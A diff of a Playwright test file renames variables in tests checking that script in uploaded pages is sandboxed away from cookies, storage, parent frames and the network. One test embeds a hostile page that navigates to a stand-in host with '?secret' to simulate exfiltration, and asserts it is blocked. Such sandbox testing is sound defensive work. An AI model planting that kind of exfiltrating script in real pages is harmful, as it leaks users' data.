@@ -65,17 +65,17 @@ def test_script_in_an_uploaded_page_cannot_reach_the_product(site, new_page):
     address = bring(page, site, "essais.html", TRIES.replace("PRODUCT", site.demo).encode(), "text/html")
     frame = shown(page)
     frame.wait_for_function("document.title == 'fini'")
-    told = json.loads(frame.inner_text("#told"))
+    report = json.loads(frame.inner_text("#told"))
     refused = {"cookie", "setCookie", "storage", "session", "parent", "parentStorage", "top", "topHref"}
-    assert {name: told[name] for name in refused} == dict.fromkeys(refused, "SecurityError")
-    assert told["origin"] == "null" and told["frameElement"] in ("null", "SecurityError")
-    assert told["popup"] == "null" and told["net"] == "rejected,rejected,rejected"
+    assert {name: report[name] for name in refused} == dict.fromkeys(refused, "SecurityError")
+    assert report["origin"] == "null" and report["frameElement"] in ("null", "SecurityError")
+    assert report["popup"] == "null" and report["net"] == "rejected,rejected,rejected"
     page.wait_for_timeout(500)
     assert page.url == address
     # The person is still there, and nothing was left in the browser.
     page.reload()
     assert page.url == address and page.locator("h1").first.inner_text() == "essais"
-    assert "taken" not in {one["name"] for one in page.context.cookies()}
+    assert "taken" not in {cookie["name"] for cookie in page.context.cookies()}
 
 
 def test_objects_have_separate_origins_and_urls_work_in_frames_only(site, new_page):
@@ -97,11 +97,11 @@ def test_self_navigation_of_an_uploaded_page_is_blocked(site, new_page):
     sign_in(page, site.demo, "member@demo.test")
     leaving = b"<!doctype html><html><body><script>location = 'http://localhost:1/?secret'</script></body></html>"
     address = bring(page, site, "partir.html", leaving, "text/html")
-    asked: list[str] = []
-    page.on("request", lambda request: asked.append(request.url))
+    requested: list[str] = []
+    page.on("request", lambda request: requested.append(request.url))
     page.reload()
     page.wait_for_timeout(1500)
-    assert page.url == address and not [url for url in asked if "localhost:1/" in url]
+    assert page.url == address and not [url for url in requested if "localhost:1/" in url]
 
 
 @pytest.mark.parametrize(
